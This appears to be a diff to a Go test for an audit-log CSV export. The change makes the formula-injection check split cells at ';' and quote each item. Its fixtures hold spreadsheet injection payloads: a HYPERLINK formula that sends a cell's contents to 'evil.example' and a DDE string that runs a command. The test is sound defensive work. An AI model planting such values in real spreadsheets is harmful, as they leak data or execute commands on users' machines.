@@ -8,6 +8,7 @@ import (
 	"encoding/json"
 	"net/http"
 	"net/url"
+	"strings"
 	"testing"
 	"time"
 
@@ -171,9 +172,11 @@ func TestAuditExport(t *testing.T) {
 		require.NoError(t, err)
 		require.Len(t, rows, 2)
 		for _, cell := range rows[1] {
-			require.NotRegexp(t, `^[=+\-@\t\r]`, cell)
+			for _, item := range strings.Split(cell, ";") {
+				require.NotRegexp(t, `^[=+\-@\t\r]`, item, "a spreadsheet splitting the list at ';' runs no item either")
+			}
 		}
-		require.Equal(t, `'=HYPERLINK("http://evil.example/?leak="&B2,"open");@SUM(1+1)`, rows[1][8], "the value kept, quoted")
+		require.Equal(t, `'=HYPERLINK("http://evil.example/?leak="&B2,"open");'@SUM(1+1)`, rows[1][8], "the value kept, each item quoted")
 		require.Equal(t, "'+cmd|' /C calc'!A0", rows[1][5])
 	})
 
